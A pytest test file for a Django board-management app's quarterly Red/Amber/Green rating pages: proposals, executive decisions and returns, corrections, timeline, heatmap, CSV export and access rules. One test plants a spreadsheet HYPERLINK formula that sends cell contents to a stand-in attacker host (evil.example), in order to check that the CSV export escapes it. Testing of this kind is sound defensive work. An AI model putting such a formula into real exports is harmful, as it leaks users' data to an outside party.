"""The quarterly RAG cycle's pages (priorities/rag_views.py): the assessment page and its
forms, proposals to write, decisions due (walked in the executive meeting's order), a
priority's timeline, the heatmap and its CSV, and the board page's RAG counts."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.utils import timezone

from priorities import rag
from priorities.models import Measure, MeasureValue, Rag, RagAssessment
from sab.models import RoleAssignment
from tests.factories import (
    ActionFactory,
    BusinessPlanFactory,
    GroupFactory,
    PriorityFactory,
    ProgressUpdateFactory,
    ReportingPeriodFactory,
)
from tests.matrix import expected

Role = RoleAssignment.Role
State = RagAssessment.State
TODAY = timezone.localdate()
DAY = datetime.timedelta(days=1)
ROOT = Path(__file__).resolve().parents[2]

PROPOSERS = {"manager", "chair", "member"}  # the priority's delivery group is "group"
DECIDERS = {"manager", "executive"}
IN_BOARD = {"manager", "chair", "member", "other_chair", "executive", "review", "partner", "viewer"}


@pytest.fixture
def chair(user_as):
    return user_as("chair")


@pytest.fixture
def executive(user_as):
    return user_as("executive")


@pytest.fixture
def assessment(priority, period, chair):
    return rag.start_assessment(priority=priority, period=period, by=chair)


@pytest.fixture
def proposed(assessment, chair):
    return rag.propose(
        assessment=assessment, by=chair, comments="On track", proposed_rating="amber"
    )


@pytest.fixture
def decided(proposed, manager):
    return rag.decide(assessment=proposed, by=manager, decided_rating="amber")


def fresh(assessment) -> RagAssessment:
    return RagAssessment.objects.get(pk=assessment.pk)


def text(response) -> str:
    """The page's text without tags, spaces run together (for reading messages)."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", response.content.decode()))


def propose_data(assessment, intent="propose", rating="amber", **fields) -> dict:
    data = {
        "intent": intent,
        "propose-seen_version": assessment.version,
        "propose-comments": "Two actions slipped",
        "propose-recommendations": "",
        "propose-risks": "",
        "propose-proposed_rating": rating,
    }
    data.update({f"propose-{name}": value for name, value in fields.items()})
    return data


def decide_data(assessment, rating="amber", reason="", seen_version=None) -> dict:
    return {
        "decide-seen_version": assessment.version if seen_version is None else seen_version,
        "decide-executive_comments": "",
        "decide-executive_risks": "",
        "decide-decided_rating": rating,
        "decide-decision_reason": reason,
    }


def url(name: str, pk: int) -> str:
    return f"/rag/{pk}/{name}/" if name else f"/rag/{pk}/"


# --- The workflow, each role through the pages ----------------------------------------------


def test_the_chair_proposes_an_executive_returns_it_and_another_decides_with_a_reason(
    client, priority, period, action, user_as, chair
):
    ProgressUpdateFactory(action=action, period=period, rag="red", text="The auditor left")
    client.force_login(chair)
    response = client.post(f"/priorities/{priority.pk}/rag/{period.pk}/")
    assessment = RagAssessment.objects.get(priority=priority, period=period)
    assert response.status_code == 302 and response.url == assessment.get_absolute_url()

    page = client.get(assessment.get_absolute_url())
    html = page.content.decode()
    assert "Save as a draft" in html and "Propose this rating" in html
    assert f'action="/rag/{assessment.pk}/decide/"' not in html
    # The evidence beside the form, and the suggestion said as a suggestion.
    assert "The auditor left" in html
    assert "Red: 1 action rated Red." in html
    assert "It is only a suggestion" in html

    response = client.post(url("propose", assessment.pk), propose_data(assessment, "draft"))
    assert response.status_code == 302
    assessment = fresh(assessment)
    assert (assessment.state, assessment.comments) == (State.DRAFT, "Two actions slipped")

    response = client.post(url("propose", assessment.pk), propose_data(assessment), follow=True)
    assert "You proposed Amber for 2b (This quarter)" in text(response)
    assessment = fresh(assessment)
    assert (assessment.state, assessment.proposed_rating) == (State.PROPOSED, "amber")
    assert "Propose this rating" not in client.get(assessment.get_absolute_url()).content.decode()

    first = user_as("executive")
    client.force_login(first)
    html = client.get(assessment.get_absolute_url()).content.decode()
    # The decided rating starts as the proposal.
    assert re.search(r'name="decide-decided_rating" type="radio" value="amber" checked', html)
    assert "Return with a question" in html
    response = client.post(
        url("return", assessment.pk),
        {"return-seen_version": assessment.version, "return-question": "Why not Red?"},
        follow=True,
    )
    assert "has gone back to the delivery group" in text(response)
    assessment = fresh(assessment)
    assert (assessment.state, assessment.question) == (State.RETURNED, "Why not Red?")

    client.force_login(chair)
    html = client.get(assessment.get_absolute_url()).content.decode()
    assert "The executive group's question" in html and "Why not Red?" in html
    client.post(
        url("propose", assessment.pk),
        propose_data(assessment, comments="A new auditor starts next month"),
    )
    assessment = fresh(assessment)
    assert assessment.state == State.PROPOSED

    second = user_as("executive")
    client.force_login(second)
    response = client.post(url("decide", assessment.pk), decide_data(assessment, "red"))
    assert response.status_code == 200
    assert "Enter why the rating is Red when Amber was proposed" in text(response)
    assert "(error)" in response.content.decode().split("</title>")[0]
    assert fresh(assessment).state == State.PROPOSED

    response = client.post(
        url("decide", assessment.pk),
        decide_data(assessment, "red", reason="No auditor for two quarters"),
        follow=True,
    )
    assert "Red is decided for 2b (This quarter)." in text(response)
    assert "No other proposal is waiting for a decision." in text(response)
    assert response.redirect_chain[-1][0] == f"/boards/{priority.plan.board.slug}/rag/decisions/"
    assessment = fresh(assessment)
    assert (assessment.state, assessment.decided_rating, assessment.decided_by) == (
        State.DECIDED,
        "red",
        second,
    )
    assert assessment.is_overridden


def test_a_decided_assessment_offers_no_decision_and_refuses_one(client, decided, executive):
    client.force_login(executive)
    html = client.get(decided.get_absolute_url()).content.decode()
    assert f'action="/rag/{decided.pk}/decide/"' not in html
    assert "Correct the decision" in html
    before = fresh(decided)
    response = client.post(url("decide", decided.pk), decide_data(decided, "green", "Better"))
    assert response.status_code == 200
    assert "This rating has already been decided." in text(response)
    after = fresh(decided)
    assert (after.decided_rating, after.version, after.decided_by) == (
        before.decided_rating,
        before.version,
        before.decided_by,
    )


def test_a_decision_from_a_second_tab_is_refused_and_nothing_changes(client, proposed, user_as):
    first, second = user_as("executive"), user_as("executive")
    seen = proposed.version  # both tabs opened the page at this version
    client.force_login(first)
    client.post(url("decide", proposed.pk), decide_data(proposed, "amber", seen_version=seen))
    decided = fresh(proposed)
    assert decided.state == State.DECIDED

    client.force_login(second)
    response = client.post(
        url("decide", proposed.pk), decide_data(proposed, "red", "Worse", seen_version=seen)
    )
    assert "This assessment has changed since you opened it" in text(response)
    after = fresh(proposed)
    assert (after.decided_rating, after.decided_by, after.version) == (
        "amber",
        first,
        decided.version,
    )


def test_a_proposer_who_also_sits_on_the_executive_is_told_why_they_cannot_decide(
    client, board, group, priority, period, make_user
):
    both = make_user(Role.SUBGROUP_CHAIR, board, group=group)
    RoleAssignment.objects.create(user=both, board=board, role=Role.EXECUTIVE_MEMBER)
    assessment = rag.start_assessment(priority=priority, period=period, by=both)
    client.force_login(both)
    client.post(url("propose", assessment.pk), propose_data(assessment, rating="green"))
    assessment = fresh(assessment)
    html = client.get(assessment.get_absolute_url()).content.decode()
    assert "You proposed this rating, so you cannot decide or return it" in text(
        client.get(assessment.get_absolute_url())
    )
    assert f'action="/rag/{assessment.pk}/decide/"' not in html
    response = client.post(url("decide", assessment.pk), decide_data(assessment, "green"))
    assert "You proposed this rating, so you cannot decide it" in text(response)
    assert fresh(assessment).state == State.PROPOSED


def test_a_correction_is_a_new_decision_with_a_reason(client, decided, executive):
    client.force_login(executive)
    data = {"correct-seen_version": decided.version, "correct-decided_rating": "red"}
    response = client.post(url("correct", decided.pk), {**data, "correct-decision_reason": ""})
    assert "Enter why the decision is being corrected" in text(response)
    assert fresh(decided).decided_rating == "amber"
    response = client.post(
        url("correct", decided.pk),
        {**data, "correct-decision_reason": "The minutes recorded Red"},
        follow=True,
    )
    assert "is corrected to Red" in text(response)
    assert fresh(decided).decided_rating == "red"
    history = text(client.get(f"/priorities/{decided.priority_id}/rag/"))
    assert "Decision corrected: The minutes recorded Red" in history


def test_proposing_again_without_choosing_keeps_the_rating_proposed_before(
    client, proposed, executive, chair
):
    returned = rag.return_proposal(assessment=proposed, by=executive, question="Sure?")
    client.force_login(chair)
    client.post(url("propose", returned.pk), propose_data(returned, rating=""))
    again = fresh(returned)
    assert (again.state, again.proposed_rating) == (State.PROPOSED, "amber")


def test_a_period_that_has_not_started_is_refused_with_a_message(client, board, priority, chair):
    future = ReportingPeriodFactory(
        board=board, label="Next quarter", start=TODAY + 30 * DAY, end=TODAY + 120 * DAY
    )
    client.force_login(chair)
    response = client.post(f"/priorities/{priority.pk}/rag/{future.pk}/", follow=True)
    assert "Next quarter has not started yet: its rating is proposed once it has." in text(response)
    assert response.redirect_chain[-1][0] == f"/priorities/{priority.pk}/rag/"
    assert not RagAssessment.objects.exists()


def test_another_boards_priority_period_and_assessment_are_not_found(
    client, other_board, priority, period, assessment, manager
):
    elsewhere = PriorityFactory(plan=BusinessPlanFactory(board=other_board))
    their_period = ReportingPeriodFactory(
        board=other_board, start=TODAY - 10 * DAY, end=TODAY + 10 * DAY
    )
    theirs = RagAssessment.objects.create(priority=elsewhere, period=their_period)
    client.force_login(manager)
    assert client.post(f"/priorities/{elsewhere.pk}/rag/{their_period.pk}/").status_code == 404
    assert client.post(f"/priorities/{priority.pk}/rag/{their_period.pk}/").status_code == 404
    assert client.get(theirs.get_absolute_url()).status_code == 404
    assert client.get(f"/priorities/{elsewhere.pk}/rag/").status_code == 404
    for name in ("propose", "return", "decide", "correct"):
        assert client.post(url(name, theirs.pk), {}).status_code == 404
    assert not RagAssessment.objects.filter(priority=priority).exclude(pk=assessment.pk).exists()


# --- Decisions due: in the executive meeting's order, walked one after another ---------------


@pytest.fixture
def waiting(board, plan, group, chair):
    """Four proposals: two periods (the later meeting first in time order of labels), two
    priorities each; returns them in the order the executive meets them."""
    early = ReportingPeriodFactory(
        board=board,
        label="Q1",
        start=TODAY - 120 * DAY,
        end=TODAY - 31 * DAY,
        exec_meeting_date=TODAY - 20 * DAY,
    )
    late = ReportingPeriodFactory(
        board=board,
        label="Q2",
        start=TODAY - 30 * DAY,
        end=TODAY + 60 * DAY,
        exec_meeting_date=TODAY + 70 * DAY,
    )
    second = PriorityFactory(plan=plan, ref="3", order=2, delivery_group=group)
    first = PriorityFactory(plan=plan, ref="1", order=1, delivery_group=group)
    made = []
    for period in (early, late):
        for priority in (first, second):
            a = rag.start_assessment(priority=priority, period=period, by=chair)
            made.append(rag.propose(assessment=a, by=chair, proposed_rating="green"))
    return made


def test_decisions_due_follow_the_meeting_and_each_decision_opens_the_next(
    client, board, waiting, executive
):
    client.force_login(executive)
    response = client.get(f"/boards/{board.slug}/rag/decisions/")
    assert [a.pk for a in response.context["waiting"]] == [a.pk for a in waiting]
    assert "4 proposals waiting for a decision" in text(response)

    response = client.post(url("decide", waiting[0].pk), decide_data(waiting[0], "green"))
    assert response.url == waiting[1].get_absolute_url()
    response = client.get(response.url)
    assert "Here is the next proposal waiting for a decision (3 still waiting)." in text(response)
    client.post(
        url("return", waiting[1].pk),
        {"return-seen_version": waiting[1].version, "return-question": "Which audit?"},
    )
    response = client.post(url("decide", waiting[2].pk), decide_data(waiting[2], "green"))
    assert response.url == waiting[3].get_absolute_url()
    response = client.post(url("decide", waiting[3].pk), decide_data(waiting[3], "green"))
    assert response.url == f"/boards/{board.slug}/rag/decisions/"
    assert "No proposal is waiting" in text(client.get(response.url))


def test_decisions_due_mark_the_readers_own_proposals(
    client, board, group, plan, period, make_user
):
    both = make_user(Role.SUBGROUP_CHAIR, board, group=group)
    RoleAssignment.objects.create(user=both, board=board, role=Role.EXECUTIVE_MEMBER)
    priority = PriorityFactory(plan=plan, delivery_group=group)
    a = rag.start_assessment(priority=priority, period=period, by=both)
    rag.propose(assessment=a, by=both, proposed_rating="red")
    client.force_login(both)
    page = text(client.get(f"/boards/{board.slug}/rag/decisions/"))
    assert "You proposed this rating: another member of the executive group decides it." in page


# --- Proposals to write -------------------------------------------------------------------


def test_proposals_to_write_list_the_readers_priorities_with_their_state(
    client, board, plan, group, other_group, period, chair, executive
):
    mine = [
        PriorityFactory(plan=plan, ref=f"{i}", order=i, delivery_group=group) for i in (1, 2, 3, 4)
    ]
    PriorityFactory(plan=plan, ref="9", delivery_group=other_group)  # not the chair's
    PriorityFactory(plan=BusinessPlanFactory(board=board, status="draft"), delivery_group=group)
    rag.start_assessment(priority=mine[1], period=period, by=chair)
    proposed = rag.propose(
        assessment=rag.start_assessment(priority=mine[2], period=period, by=chair),
        by=chair,
        proposed_rating="green",
    )
    rag.decide(assessment=proposed, by=executive, decided_rating="green")
    returned = rag.propose(
        assessment=rag.start_assessment(priority=mine[3], period=period, by=chair),
        by=chair,
        proposed_rating="red",
    )
    rag.return_proposal(assessment=returned, by=executive, question="Evidence?")
    client.force_login(chair)
    response = client.get(f"/boards/{board.slug}/rag/proposals/")
    rows = response.context["rows"]
    assert [(row.priority.ref, row.state_label) for row in rows] == [
        ("1", "Not started"),
        ("2", "Draft"),
        ("3", "Decided"),
        ("4", "Returned with a question"),
    ]
    page = response.content.decode()
    assert "3 proposals still to write." in text(response)
    assert f'action="/priorities/{mine[0].pk}/rag/{period.pk}/"' in page
    assert "Answer the question" in page


def test_the_board_page_says_what_rag_work_is_waiting(
    client, board, plan, group, period, chair, executive, manager
):
    for i in (1, 2):
        PriorityFactory(plan=plan, ref=f"{i}", delivery_group=group)
    third = PriorityFactory(plan=plan, ref="3", delivery_group=group)
    rag.propose(
        assessment=rag.start_assessment(priority=third, period=period, by=chair),
        by=chair,
        proposed_rating="amber",
    )
    client.force_login(chair)
    page = client.get(board.get_absolute_url()).content.decode()
    proposals = f"/boards/{board.slug}/rag/proposals/"
    assert re.search(
        r"Proposals to write for This quarter</dt>\s*<dd[^>]*><a class=\"govuk-link\" href=\""
        + re.escape(proposals)
        + r"\"><strong>2</strong>",
        page,
    )
    assert "Decisions due" not in page
    client.force_login(executive)
    page = client.get(board.get_absolute_url()).content.decode()
    decisions = f"/boards/{board.slug}/rag/decisions/"
    assert re.search(
        r"Decisions due</dt>\s*<dd[^>]*><a class=\"govuk-link\" href=\""
        + re.escape(decisions)
        + r"\"><strong>1</strong>",
        page,
    )
    assert "Proposals to write" not in page
    client.force_login(manager)  # a manager writes where no group does, and decides
    page = client.get(board.get_absolute_url()).content.decode()
    assert "Proposals to write for This quarter" in page and "Decisions due" in page


# --- Timeline -----------------------------------------------------------------------------


def test_the_timeline_shows_each_period_newest_first_with_overrides_and_questions(
    client, board, priority, period, chair, user_as, make_user
):
    executive, other = user_as("executive"), user_as("executive")
    old = ReportingPeriodFactory(
        board=board, label="Last quarter", start=period.start - 91 * DAY, end=period.start - DAY
    )
    earlier = rag.propose(
        assessment=rag.start_assessment(priority=priority, period=old, by=chair),
        by=chair,
        proposed_rating="green",
    )
    rag.decide(assessment=earlier, by=executive, decided_rating="amber", decision_reason="Slipped")
    now = rag.propose(
        assessment=rag.start_assessment(priority=priority, period=period, by=chair),
        by=chair,
        proposed_rating="amber",
    )
    rag.return_proposal(assessment=now, by=other, question="What changed?")
    client.force_login(make_user(Role.VIEWER, board))
    response = client.get(f"/priorities/{priority.pk}/rag/")
    assert [a.period.label for a in response.context["assessments"]] == [
        "This quarter",
        "Last quarter",
    ]
    page = text(response)
    assert "Differs from the proposal" in page
    assert "Slipped" in page and "What changed?" in page
    assert "Returned with a question" in page
    assert "Write the proposal" not in page  # a viewer proposes nothing


# --- The heatmap and its CSV --------------------------------------------------------------


@pytest.fixture
def grid(board, plan, group, other_group, chair, executive):
    """Two priorities by three periods: decided Green, proposed Amber, returned, draft, none."""
    q1 = ReportingPeriodFactory(
        board=board, label="Q1", start=TODAY - 200 * DAY, end=TODAY - 110 * DAY
    )
    q2 = ReportingPeriodFactory(
        board=board, label="Q2", start=TODAY - 109 * DAY, end=TODAY - 20 * DAY
    )
    q3 = ReportingPeriodFactory(
        board=board, label="Q3", start=TODAY - 19 * DAY, end=TODAY + 70 * DAY
    )
    ReportingPeriodFactory(board=board, label="Q4", start=TODAY + 71 * DAY, end=TODAY + 160 * DAY)
    one = PriorityFactory(plan=plan, ref="1", title="Prevention", order=1, delivery_group=group)
    two = PriorityFactory(plan=plan, ref="2", title="Learning", order=2, delivery_group=other_group)

    def propose(priority, period, rating):
        a = rag.start_assessment(priority=priority, period=period, by=chair)
        return rag.propose(assessment=a, by=chair, proposed_rating=rating)

    rag.decide(assessment=propose(one, q1, "green"), by=executive, decided_rating="green")
    propose(one, q2, "amber")
    rag.return_proposal(assessment=propose(two, q1, "red"), by=executive, question="Why?")
    rag.start_assessment(priority=two, period=q3, by=chair)
    return {"one": one, "two": two, "periods": [q1, q2, q3]}


EXPECTED_GRID = [
    ["1", "Green", "Proposed: Amber (awaiting decision)", "No assessment"],
    ["2", "Returned", "No assessment", "Draft"],
]


def _cells(page: str) -> list[list[str]]:
    body = page.split('class="govuk-table app-heatmap__table"')[1].split("</table>")[0]
    rows = []
    for row in re.findall(r"<tr class=\"govuk-table__row\">(.*?)</tr>", body, flags=re.S)[1:]:
        cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, flags=re.S)
        words = [
            re.sub(
                r"\s+",
                " ",
                re.sub(
                    r"<[^>]+>", "", re.sub(r'<span class="govuk-visually-hidden">.*?</span>', "", c)
                ),
            ).strip()
            for c in cells
        ]
        rows.append([words[0].split(" ")[0], *words[1:]])
    return rows


def test_the_heatmap_shows_exactly_the_ratings_recorded(client, board, grid, make_user):
    client.force_login(make_user(Role.VIEWER, board))
    response = client.get(f"/boards/{board.slug}/rag/heatmap/")
    page = response.content.decode()
    assert [p.label for p in response.context["periods"]] == ["Q1", "Q2", "Q3"]  # not Q4 yet
    assert _cells(page) == EXPECTED_GRID
    assert '<strong class="govuk-tag app-rag--green">Green</strong>' in page
    assert page.count("app-rag--") - page.count("app-rag-key") >= 1
    assert "RAG key" in page  # the board's key beneath


def test_the_heatmap_csv_matches_the_page(client, board, grid, make_user):
    client.force_login(make_user(Role.VIEWER, board))
    response = client.get(f"/boards/{board.slug}/rag/heatmap.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Plan", "Priority", "Title", "Delivery group", "Q1", "Q2", "Q3"]
    assert [[row[1], *row[4:]] for row in rows[1:]] == EXPECTED_GRID
    assert rows[1][:4] == ["Business Plan 2026/27", "1", "Prevention", "Performance Sub-Group"]


def test_the_heatmap_csv_writes_titles_as_text_never_formulas(client, board, grid, make_user):
    grid["one"].title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    grid["one"].save()
    client.force_login(make_user(Role.VIEWER, board))
    rows = list(csv.reader(io.StringIO(client.get(f"/boards/{board.slug}/rag/heatmap.csv")
                                       .content.decode())))  # fmt: skip
    assert rows[1][2] == "'" + grid["one"].title


def test_the_heatmap_filters_by_plan_and_delivery_group(
    client, board, grid, other_group, make_user
):
    other_plan = BusinessPlanFactory(board=board, title="Business Plan 2025/26", status="archived")
    PriorityFactory(plan=other_plan, ref="7", title="Old priority")
    client.force_login(make_user(Role.VIEWER, board))
    page = client.get(f"/boards/{board.slug}/rag/heatmap/", {"group": other_group.pk})
    assert [row.priority.ref for row in page.context["rows"]] == ["2"]
    page = client.get(f"/boards/{board.slug}/rag/heatmap/", {"plan": other_plan.pk})
    assert [row.priority.ref for row in page.context["rows"]] == ["7"]
    csv_rows = list(
        csv.reader(
            io.StringIO(
                client.get(
                    f"/boards/{board.slug}/rag/heatmap.csv", {"group": other_group.pk}
                ).content.decode()
            )
        )
    )
    assert [row[1] for row in csv_rows[1:]] == ["2"]


def test_the_heatmap_has_a_print_layout():
    css = (ROOT / "static" / "css" / "app.css").read_text().split("/* RAG heatmap */")[1]
    assert "@media print" in css and ".app-heatmap__filters" in css


# --- Permission matrices ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("page", "allowed"),
    [
        ("assessment", IN_BOARD),
        ("timeline", IN_BOARD),
        ("heatmap", IN_BOARD),
        ("heatmap-csv", IN_BOARD),
        ("proposals", {"manager", "chair", "member", "other_chair"}),
        ("decisions", DECIDERS),
    ],
)
def test_who_may_read_each_page(
    client, board, priority, assessment, user_as, position, page, allowed
):
    urls = {
        "assessment": assessment.get_absolute_url(),
        "timeline": f"/priorities/{priority.pk}/rag/",
        "heatmap": f"/boards/{board.slug}/rag/heatmap/",
        "heatmap-csv": f"/boards/{board.slug}/rag/heatmap.csv",
        "proposals": f"/boards/{board.slug}/rag/proposals/",
        "decisions": f"/boards/{board.slug}/rag/decisions/",
    }
    client.force_login(user_as(position))
    assert client.get(urls[page]).status_code == expected(position, allowed)


def test_who_may_start_an_assessment(client, priority, period, user_as, position):
    client.force_login(user_as(position))
    response = client.post(f"/priorities/{priority.pk}/rag/{period.pk}/")
    assert response.status_code == expected(position, PROPOSERS, ok=302)
    assert RagAssessment.objects.exists() == (position in PROPOSERS)


def test_who_may_propose(client, assessment, user_as, position):
    client.force_login(user_as(position))
    response = client.post(url("propose", assessment.pk), propose_data(assessment))
    assert response.status_code == expected(position, PROPOSERS, ok=302)
    assert (fresh(assessment).state == State.PROPOSED) == (position in PROPOSERS)


def test_who_may_return_a_proposal(client, proposed, user_as, position):
    client.force_login(user_as(position))
    data = {"return-seen_version": proposed.version, "return-question": "Why?"}
    response = client.post(url("return", proposed.pk), data)
    assert response.status_code == expected(position, DECIDERS, ok=302)
    assert (fresh(proposed).state == State.RETURNED) == (position in DECIDERS)


def test_who_may_decide(client, proposed, user_as, position):
    client.force_login(user_as(position))
    response = client.post(url("decide", proposed.pk), decide_data(proposed))
    assert response.status_code == expected(position, DECIDERS, ok=302)
    assert (fresh(proposed).state == State.DECIDED) == (position in DECIDERS)


def test_who_may_correct_a_decision(client, decided, user_as, position):
    client.force_login(user_as(position))
    data = {
        "correct-seen_version": decided.version,
        "correct-decided_rating": "red",
        "correct-decision_reason": "Minutes said Red",
    }
    response = client.post(url("correct", decided.pk), data)
    assert response.status_code == expected(position, DECIDERS, ok=302)
    assert (fresh(decided).decided_rating == "red") == (position in DECIDERS)


# --- Query counts ---------------------------------------------------------------------------


@pytest.mark.parametrize(("priorities", "periods"), [(2, 2), (10, 8)])
def test_heatmap_queries_do_not_grow_with_priorities_or_periods(
    client,
    board,
    plan,
    group,
    chair,
    make_user,
    priorities,
    periods,
    django_assert_max_num_queries,
):
    """Fixed 3 (session, user, roles), the board, and the heatmap's: the plans, the filter's
    plan and group choices, the priorities, their assessments, the periods and the key."""
    made = [
        ReportingPeriodFactory(
            board=board, start=TODAY - (i + 1) * 91 * DAY, end=TODAY - i * 91 * DAY - DAY
        )
        for i in range(periods)
    ]
    for i in range(priorities):
        priority = PriorityFactory(plan=plan, delivery_group=group)
        for j, period in enumerate(made):
            a = RagAssessment.objects.create(priority=priority, period=period)
            if (i + j) % 2:
                rag.propose(assessment=a, by=chair, proposed_rating=Rag.values[(i + j) % 4])
    client.force_login(make_user(Role.VIEWER, board))
    client.get(
        f"/boards/{board.slug}/rag/heatmap/"
    )  # warm-up: the first request writes the session
    with django_assert_max_num_queries(11):
        response = client.get(f"/boards/{board.slug}/rag/heatmap/")
    assert len(response.context["rows"]) == priorities
    assert len(response.context["periods"]) == periods
    with django_assert_max_num_queries(8):  # the same, less the filter's choices and the key
        client.get(f"/boards/{board.slug}/rag/heatmap.csv")


@pytest.mark.parametrize("n", [2, 30])
def test_decisions_and_proposals_queries_do_not_grow(
    client, board, plan, group, period, chair, manager, n, django_assert_max_num_queries
):
    """Decisions due: fixed 3, the board, the proposals with their priorities, plans, groups,
    periods and proposers. Proposals to write: fixed 3, the board, the current period, the
    priorities (with plan and group) and their assessments this period."""
    for _ in range(n):
        priority = PriorityFactory(plan=plan, delivery_group=group)
        a = rag.start_assessment(priority=priority, period=period, by=chair)
        rag.propose(assessment=a, by=chair, proposed_rating="green")
        PriorityFactory(plan=plan, delivery_group=group)  # and one still to write
    client.force_login(manager)
    client.get(f"/boards/{board.slug}/rag/decisions/")
    with django_assert_max_num_queries(5):
        response = client.get(f"/boards/{board.slug}/rag/decisions/")
    assert len(response.context["waiting"]) == n
    with django_assert_max_num_queries(7):
        response = client.get(f"/boards/{board.slug}/rag/proposals/")
    assert len(response.context["rows"]) == 2 * n


@pytest.mark.parametrize("n", [2, 25])
def test_the_assessment_page_queries_do_not_grow_with_actions_and_updates(
    client, priority, period, group, assessment, chair, n, django_assert_max_num_queries
):
    """Fixed 3, the assessment (with its priority, plan, board, group, period and people),
    the evidence's six (actions with their latest ratings, the period's updates with their
    actions and authors, measures, their values, the values' periods, last period's decision)
    and the history."""
    for i in range(n):
        action = ActionFactory(priority=priority, lead_group=group, due_date=TODAY - i * DAY)
        ProgressUpdateFactory(action=action, period=period, author=chair, rag="amber")
        measure = Measure.objects.create(priority=priority, name=f"Measure {i}")
        MeasureValue.objects.create(measure=measure, period=period, value=i)
    client.force_login(chair)
    client.get(assessment.get_absolute_url())
    with django_assert_max_num_queries(11):
        response = client.get(assessment.get_absolute_url())
    assert len(response.context["evidence"]["updates"]) == n


def test_a_joint_delivery_group_of_another_board_does_not_open_this_boards_lists(
    client, board, other_board, make_user
):
    outsider = make_user(Role.SUBGROUP_CHAIR, other_board, group=GroupFactory(boards=[other_board]))
    client.force_login(outsider)
    assert client.get(f"/boards/{board.slug}/rag/proposals/").status_code == 404
